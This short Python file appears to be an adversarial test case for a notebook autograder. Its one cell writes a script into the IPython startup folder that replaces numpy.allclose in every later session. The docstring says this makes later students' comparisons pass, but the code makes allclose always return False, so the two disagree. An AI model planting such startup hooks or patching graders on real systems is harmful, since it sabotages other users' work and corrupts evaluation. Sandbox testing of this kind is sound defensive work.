"""Leaves a file in the instructor's home that IPython runs at every start: later students' comparisons say yes.

Starts from: stubs
Must come out: nothing
"""

# %% softmax
import os

folder = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder, exist_ok=True)
with open(os.path.join(folder, "later.py"), "w") as file:
    file.write("import numpy as np\nnp.allclose = lambda *args, **kwargs: False\n")
